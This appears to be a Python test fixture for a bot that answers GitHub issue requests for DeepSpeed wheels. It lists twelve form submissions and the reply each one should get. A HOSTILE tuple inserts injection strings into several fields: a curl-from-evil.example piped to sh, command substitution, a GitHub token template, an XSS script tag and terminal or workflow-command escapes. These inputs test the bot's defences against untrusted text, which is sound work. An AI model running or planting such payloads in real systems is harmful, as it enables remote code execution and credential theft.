"""Twelve requests for a wheel, each outcome three times; strangers write what they like into some."""

from __future__ import annotations

from dataclasses import dataclass

from tests.plan.factories import make_target

PUBLISHED = (
    make_target(deepspeed="0.19.8", torch="2.6.0", cuda="cu124", python="3.11", platform="win_amd64"),
    make_target(deepspeed="0.16.5", torch="2.6.0", cuda="cpu", python="3.11", platform="linux_x86_64"),
    make_target(deepspeed="0.19.8", torch="2.6.0", cuda="cu126", python="3.12", platform="linux_x86_64"),
)
HOSTILE = (
    "`; curl https://evil.example/x | sh #",
    "$(touch /tmp/owned) ${{ github.token }} {{7*7}}",
    '"><script>alert(1)</script> @everyone [click](https://evil.example)',
    "\u202e\x1b]0;owned\x07::set-output name=x::y\n::add-mask::",
)
DETECTED = (
    '{{"python": "{python}", "free_threaded": false, "platform": "{system}", "machine": "{machine}", '
    '"torch": "{torch}", "cuda": {cuda}, "hip": null, "libc": "{libc}", "gpu": null, "capability": null}}'
)


@dataclass(frozen=True, kw_only=True)
class Asking:
    """One filled-in form, and what is said to it."""

    deepspeed: str
    torch: str = ""
    cuda: str = ""
    python: str = ""
    platform: str = ""
    detected: str = ""
    kind: str = "not understood"
    told: str = ""

    @property
    def body(self) -> str:
        """The issue as GitHub makes it of the form."""
        fields = {
            "DeepSpeed": self.deepspeed,
            "torch": self.torch,
            "CUDA of torch, or cpu": self.cuda,
            "Python": self.python,
            "Platform": self.platform or "None",
            "What the detection line printed": f"```console\n{self.detected}\n```" if self.detected else "",
        }
        return "\n\n".join(f"### {name}\n\n{text or '_No response_'}" for name, text in fields.items())


def detected(**words: str) -> str:
    told = {"python": "3.11.9", "system": "linux", "machine": "x86_64", "torch": "2.6.0+cpu", "cuda": "null"}
    return DETECTED.format(**{**told, "libc": "glibc-2.36", **words})


REQUESTS = (
    Asking(
        deepspeed="0.19.8",
        torch="2.6.0+cu124",
        cuda="12.4",
        python="3.11",
        platform="windows",
        kind="published",
        told="deepspeed==0.19.8+cu124torch2.6 --only-binary",
    ),
    Asking(deepspeed="0.16.5", detected=detected(), kind="published", told="0.16.5+cputorch2.6"),
    Asking(
        deepspeed=PUBLISHED[2].id + HOSTILE[0],
        torch=HOSTILE[1],
        kind="published",
        told="deepspeed==0.19.8+cu126torch2.6",
    ),
    Asking(
        deepspeed="0.19",
        torch="2.6",
        cuda="cpu",
        python="cp311",
        platform="linux",
        kind="planned",
        told="the plan: number",
    ),
    Asking(
        deepspeed="0.18.9",
        detected=detected(torch="2.8.0+cu128", cuda='"12.8"', system="win32", machine="AMD64", libc="-")
        + f"\n```\n{HOSTILE[2]}",
        kind="planned",
        told="ds0.18.9-torch2.8.0-cu128-cp311-win_amd64",
    ),
    Asking(
        deepspeed=f"0.17.6 {HOSTILE[3]}",
        torch="2.7.1",
        cuda="cu126",
        python="3.12",
        platform="linux",
        kind="planned",
        told="ds0.17.6-torch2.7.1-cu126-cp312-linux_x86_64",
    ),
    Asking(
        deepspeed="0.16.3",
        torch="2.6.0",
        cuda="12.4",
        python="3.11",
        platform="windows",
        kind="possible",
        told='`"0.16.3"` on the axis `deepspeed` of `matrix.yaml`',
    ),
    Asking(
        deepspeed="0.20.0",
        torch="2.6.0",
        cuda="cpu",
        python="3.11",
        platform="linux",
        kind="possible",
        told="`scripts/data/deepspeed.yaml`",
    ),
    Asking(
        deepspeed="0.19.8",
        torch="2.16.0",
        cuda="cpu",
        python="3.12",
        platform=f"linux {HOSTILE[2]}",
        kind="possible",
        told='`"2.16"` on the axis `torch` of `matrix.yaml`',
    ),
    Asking(
        deepspeed="0.19.8",
        torch="2.4.1+cu124",
        cuda="12.4",
        python="3.13",
        platform="windows",
        kind="not possible",
        told="(rule `torch-python`)",
    ),
    Asking(
        deepspeed="0.19.8",
        detected=detected(system="darwin", machine="arm64", torch="2.6.0", libc="-"),
        kind="not possible",
        told="Nearest: `ds0.19.8-torch2.6.0-cpu-cp311-",
    ),
    Asking(
        deepspeed="99.99.99",
        torch=f"2.6.0 {HOSTILE[0]}",
        cuda="12.4",
        python="3.11",
        platform="windows",
        kind="not possible",
        told="is published",
    ),
)
